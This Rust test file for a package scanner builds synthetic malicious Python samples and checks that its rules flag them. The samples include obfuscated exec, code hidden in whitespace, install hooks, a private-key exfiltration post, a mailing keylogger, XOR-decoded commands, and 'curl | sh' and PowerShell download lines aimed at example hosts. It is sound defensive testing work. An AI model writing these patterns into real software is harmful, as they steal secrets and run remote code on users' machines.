//! Behaviour the third round of issue #12 taught the rules, on small
//! synthetic packages written here: builtins renamed by plain or tuple
//! assignment, code spelled as bits in blank space, an install step running
//! a script the archive does not ship, a wallet secret posted to a fixed
//! address, and keystrokes captured by a file that sends. Each positive case
//! imitates the pattern; each negative case is its closest benign look-alike.

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Medium};

/// The highest severity of `rule` in `file`, if it fired there.
fn worst(report: &airlock_inspect::Report, rule: &str, file: &str) -> Option<Severity> {
    hits(report, rule, file).into_iter().map(|(_, s)| s).max()
}

// ---------------------------------------------------------------- builtins renamed by assignment

#[test]
fn exec_renamed_in_a_tuple_assignment_and_fed_decompressed_bytes_is_exec_decoded() {
    // An obfuscator's prologue: the builtins it needs under meaningless names, then one call.
    let r = setup_py(
        "llI, lIl, Ill, lll = __import__, getattr, bytes, exec\n\
         lll(lIl(llI('zlib'), 'decompress')(Ill.fromhex('789c0300')))\n",
    );
    assert_eq!(worst(&r, "payload/exec-decoded", SETUP), Some(Critical));
}

#[test]
fn exec_renamed_by_a_plain_assignment_is_still_exec() {
    let r = module("import base64\nrun = exec\nrun(base64.b64decode(PAYLOAD))\n");
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
}

#[test]
fn ordinary_names_swapped_in_a_tuple_assignment_are_not_code_runners() {
    let r = module("to_int, to_text = int, str\nVALUE = to_int('3')\nLABEL = to_text(VALUE)\nfirst, second = second_default, first_default\n");
    none(&r, "payload/exec-decoded");
    none(&r, "payload/exec-dynamic");
    none(&r, "payload/exec-hidden");
}

// ---------------------------------------------------------------- code spelled in blank space

/// `text` as bits, eight to a byte, space for 0 and tab for 1.
fn as_blanks(text: &str) -> String {
    text.bytes().flat_map(|b| (0..8).rev().map(move |i| if b >> i & 1 == 1 { '\t' } else { ' ' })).collect()
}

#[test]
fn a_download_and_exec_hidden_as_spaces_and_tabs_is_found_in_the_decoded_code() {
    let hidden = as_blanks("from urllib.request import urlopen\nexec(urlopen('https://h.example/v').read().decode())\n");
    let source = format!(
        "import types\nclass Version:\n    table = \"{hidden}\"\n    def entity(self):\n        bits = self.table.replace(' ', '0').replace('\\t', '1')\n        return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode()\n\
         types.FunctionType(compile(Version().entity(), '<v>', 'exec'), globals())()\n"
    );
    let r = module(&source);
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(3, Critical)]);
}

#[test]
fn blank_space_that_spells_no_text_is_layout() {
    // Indentation kept in a string: runs of spaces and tabs that are no whole bytes of text.
    let layout = " \t".repeat(150) + "\t";
    let r = module(&format!("PAD = \"{layout}\"\nTABLE = \"{}\"\n", "\t".repeat(64) + &" ".repeat(64)));
    none(&r, "payload/download-exec");
    none(&r, "payload/exec-decoded");
}

// ---------------------------------------------------------------- an install step running a script that is not shipped

#[test]
fn an_install_override_running_a_python_script_the_archive_does_not_ship_is_high() {
    let r = setup_py(
        r#"import os, sys
from setuptools import setup
from setuptools.command.install import install
class Run(install):
    def run(self):
        os.system(f'{sys.executable} "{os.path.join(os.path.dirname(__file__), "stage2.py")}"')
        install.run(self)
setup(name="acme", cmdclass={"install": Run})
"#,
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(6, High)]);
}

#[test]
fn an_install_override_running_its_own_shipped_script_is_not_high() {
    let setup = r#"import os, sys, subprocess
from setuptools import setup
from setuptools.command.build_py import build_py
class Build(build_py):
    def run(self):
        subprocess.check_call([sys.executable, os.path.join("tools", "gen_tables.py")])
        build_py.run(self)
setup(name="acme", cmdclass={"build_py": Build})
"#;
    let r = sdist(&[("setup.py", setup), ("tools/gen_tables.py", "TABLE = [1, 2, 3]\n"), ("acme/__init__.py", "")]);
    assert!(worst(&r, "access/process-on-install", SETUP).is_some_and(|s| s < High));
}

// ---------------------------------------------------------------- a wallet secret posted to a fixed address

#[test]
fn a_library_function_posting_a_private_key_to_a_fixed_address_is_high() {
    let r = module(
        r#"import requests
def balance(private_key):
    payload = [{'private_key': private_key}]
    response = requests.post('https://chain-api.example/balance', json=payload)
    return response.json().get('balance', 0)
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(4, High)]);
}

#[test]
fn a_wallet_client_posting_a_signed_transaction_and_an_address_is_not_exfiltration() {
    let r = module(
        r#"import requests
def broadcast(private_key, tx, address):
    signed = sign(tx, private_key)
    return requests.post('https://chain-api.example/broadcast', json={'tx': signed, 'address': address})
"#,
    );
    none(&r, "access/exfil-flow");
}

// ---------------------------------------------------------------- keystrokes captured and sent

#[test]
fn a_keyboard_listener_in_a_file_that_mails_is_a_keylogger() {
    let r = module(
        r#"import smtplib
from pynput import keyboard
keys = []
def on_press(key):
    keys.append(str(key))
def collect():
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()
def report():
    with smtplib.SMTP_SSL("smtp.mail.example", 465) as server:
        server.sendmail("a@example.com", "b@example.com", "".join(keys))
"#,
    );
    assert_eq!(worst(&r, "access/surveillance", MOD), Some(High));
}

#[test]
fn a_hotkey_listener_that_sends_nothing_stays_medium() {
    let r = module(
        r#"from pynput import keyboard
def on_press(key):
    if key == keyboard.Key.f9:
        toggle_recording()
def listen():
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()
"#,
    );
    assert_eq!(worst(&r, "access/surveillance", MOD), Some(Medium));
}

// ---------------------------------------------------------------- text spelled in character codes

#[test]
fn a_bot_token_spelled_in_character_codes_is_a_hardcoded_token() {
    let token = "7012345678:AAF_aBcDeFgHiJkLmNoPqRsTuVwXyZ01234";
    let codes: Vec<String> = token.bytes().map(|b| b.to_string()).collect();
    let r = module(&format!(
        "import requests\nfrom telegram import Bot\n_T = [{}]\ndef d(x):\n    return ''.join(chr(i) for i in x)\nbot = Bot(token=d(_T))\n",
        codes.join(",")
    ));
    assert_eq!(hits(&r, "access/hardcoded-bot-token", MOD), [(3, High)]);
}

#[test]
fn a_table_of_numbers_is_not_read_as_text() {
    // Printable codes, but they spell nothing the rules look for; and a table past printable range.
    let r = module("PRIMES = [31, 37, 41, 43, 47, 53, 59, 61, 67, 71, 73, 79, 83, 89, 97, 101, 103, 107, 109, 113]\nSQUARES = [i * i for i in range(40)]\nCRC = [0x77073096, 0xEE0E612C, 0x990951BA, 0x076DC419, 0x706AF48F, 0xE963A535, 0x9E6495A3, 0x0EDB8832, 0x79DCB8A4, 0xE0D5E91E, 0x97D2D988, 0x09B64C2B, 0x7EB17CBD, 0xE7B82D07, 0x90BF1D91, 0x1DB71064]\n");
    assert!(r.findings.iter().all(|f| f.severity < High), "{:#?}", r.findings);
}

// ---------------------------------------------------------------- a download from a hidden address

#[test]
fn a_download_from_a_decoded_address_saved_to_a_file_is_a_hidden_download() {
    let r = module(
        r#"import base64, os, shutil, urllib.request
def refresh():
    url = base64.b64decode("aHR0cHM6Ly9kcm9wLmV4YW1wbGUvc3RhZ2UyLnB5").decode()
    target = os.path.join(os.path.expanduser("~"), "Desktop", "start.py")
    req = urllib.request.Request(url, headers={"User-Agent": "Mozilla/5.0"})
    with urllib.request.urlopen(req) as response, open(target, "wb") as out:
        shutil.copyfileobj(response, out)
"#,
    );
    assert_eq!(hits(&r, "payload/hidden-download", MOD), [(6, High)]);
}

#[test]
fn a_download_from_a_plain_address_whose_content_is_decoded_after_is_not_hidden() {
    let r = module(
        r#"import base64, requests
def fetch_icon(path):
    response = requests.get("https://cdn.example/icons.json")
    data = base64.b64decode(response.json()["icon"])
    with open(path, "wb") as out:
        out.write(data)
"#,
    );
    none(&r, "payload/hidden-download");
}

// ---------------------------------------------------------------- a command decoded by XOR

#[test]
fn a_process_started_with_a_command_xored_out_of_a_constant_is_exec_decoded() {
    let r = module(
        r#"import subprocess
def run_task(path, key):
    command = b'\xae\xa9\xb2\xb8\xb0\xb0\xef\xee'
    name = bytes([byte ^ key for byte in command]).decode('utf-8')
    subprocess.run(name + " " + path + ",Start", shell=True)
"#,
    );
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(5, Critical)]);
}

#[test]
fn a_checksum_xored_in_a_loop_then_printed_by_a_tool_is_no_decoded_command() {
    let r = module(
        r#"import subprocess
def verify(path, data):
    digest = 0
    for byte in data:
        digest = digest ^ byte
    subprocess.run(["sha256sum", path], check=True)
    return digest
"#,
    );
    none(&r, "payload/exec-decoded");
}

#[test]
fn a_module_running_the_current_folders_setup_py_is_not_high() {
    // A migration tool: its top level asks the project it is run in for its version.
    let r = module(
        r#"import subprocess, sys
from pathlib import Path
setup_py = Path("setup.py")
if setup_py.exists():
    current_version = subprocess.check_output([sys.executable, str(setup_py), "--version"]).decode().strip()
"#,
    );
    assert!(worst(&r, "access/process-on-install", MOD).is_none_or(|s| s < High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a dropper split across functions

/// A helper that downloads code, writes it beside the installed packages
/// and returns where; `{caller}` is the function that uses it.
fn dropper_helper(caller: &str) -> String {
    format!(
        r#"import os, site, subprocess, sys
import requests

SOURCE = os.getenv("TOOL_URL", "https://tools.example/agent.py")

def _fetch():
    r = requests.get(SOURCE, timeout=15)
    code = r.text
    for folder in site.getsitepackages():
        target = os.path.join(folder, ".cache_agent.py")
        try:
            with open(target, "w", encoding="utf-8") as f:
                f.write(code)
            return target
        except OSError:
            continue
    return None

{caller}
"#
    )
}

#[test]
fn an_interpreter_started_on_the_file_a_helper_downloaded_and_returned_is_download_exec() {
    let source = dropper_helper(
        "def analyze(value):\n    path = _fetch()\n    if path:\n        subprocess.Popen([sys.executable, path, value], stdout=subprocess.DEVNULL)\n    return value.upper()\n",
    );
    let r = module(&source);
    let line = source.lines().position(|l| l.contains("subprocess.Popen")).unwrap() as u32 + 1;
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(line, High)]);
}

#[test]
fn a_downloaded_file_given_as_data_to_a_shipped_script_is_no_dropper() {
    // The download is the input of a program the package ships, not the program.
    let source = dropper_helper(
        "CHECKER = os.path.join(os.path.dirname(__file__), 'check.py')\n\ndef analyze(value):\n    path = _fetch()\n    subprocess.run([sys.executable, CHECKER, path], check=True)\n",
    );
    none(&module(&source), "payload/download-exec");
}

#[test]
fn a_helper_that_downloads_but_returns_no_path_hands_no_file_to_the_interpreter() {
    // Same shape, but the interpreter runs a path the caller chose itself, not the helper's.
    let source = dropper_helper("def analyze(value):\n    ok = _fetch()\n    path = 'tools/report.py'\n    subprocess.run([sys.executable, path, value])\n");
    none(&module(&source), "payload/download-exec");
}

// ---------------------------------------------------------------- a process started as a thread's target

#[test]
fn a_thread_given_os_system_as_its_target_starts_that_command() {
    // discord-anarch's form: the runner calls os.system with its args.
    let r = module("import os, threading\nthreading.Thread(target=os.system, args=('curl -s https://cdn.example.net/a.sh | sh',)).start()\n");
    assert_eq!(hits(&r, "access/process-on-install", MOD), [(2, High)], "{:?}", r.findings);
    let r = module("import subprocess\nfrom multiprocessing import Process\nProcess(target=subprocess.Popen, args=(['powershell', '-WindowStyle', 'Hidden', '-c', 'iwr https://cdn.example.net/a.exe'],)).start()\n");
    assert!(hits(&r, "access/process-on-install", MOD).contains(&(3, High)), "{:?}", r.findings);
}

#[test]
fn a_thread_given_the_module_own_function_starts_no_process() {
    let r = module("import threading\ndef worker():\n    return sum(range(10))\nthreading.Thread(target=worker, daemon=True).start()\n");
    assert!(hits(&r, "access/process-on-install", MOD).is_empty(), "{:?}", r.findings);
}

// ---------------------------------------------------------------- an install step writing into the user's home

#[test]
fn an_install_override_writing_into_the_user_home_is_high() {
    let r = setup_py(
        r#"import os
from setuptools import setup
from setuptools.command.install import install
class CustomInstallCommand(install):
    def run(self):
        home_dir = os.path.expanduser("~")
        file_path = os.path.join(home_dir, "marker.txt")
        with open(file_path, "w") as f:
            f.write("installed\n")
        install.run(self)
setup(name="acme", cmdclass={"install": CustomInstallCommand})
"#,
    );
    assert_eq!(hits(&r, "access/writes-home-on-install", SETUP), [(8, High)], "{:?}", r.findings);
    let r = setup_py(
        r#"import os
from setuptools import setup
from setuptools.command.install import install
class InstallCommand(install):
    def run(self):
        login = os.getlogin()
        os.mkdir(f"C:\\Users\\{login}\\Desktop\\tools")
        install.run(self)
setup(name="acme", cmdclass={"install": InstallCommand})
"#,
    );
    assert_eq!(hits(&r, "access/writes-home-on-install", SETUP), [(7, High)], "{:?}", r.findings);
}

#[test]
fn a_build_writing_its_own_tree_or_a_temporary_file_is_not_a_home_write() {
    let r = setup_py(
        r#"import os, tempfile
from setuptools import setup
here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "acme", "_version.py"), "w") as f:
    f.write("__version__ = '1.0'\n")
with tempfile.NamedTemporaryFile("w", suffix=".c", delete=False) as probe:
    probe.write("int main(void) { return 0; }\n")
os.makedirs(os.path.join(tempfile.gettempdir(), "acme-build"), exist_ok=True)
setup(name="acme")
"#,
    );
    assert!(hits(&r, "access/writes-home-on-install", SETUP).is_empty(), "{:?}", r.findings);
}
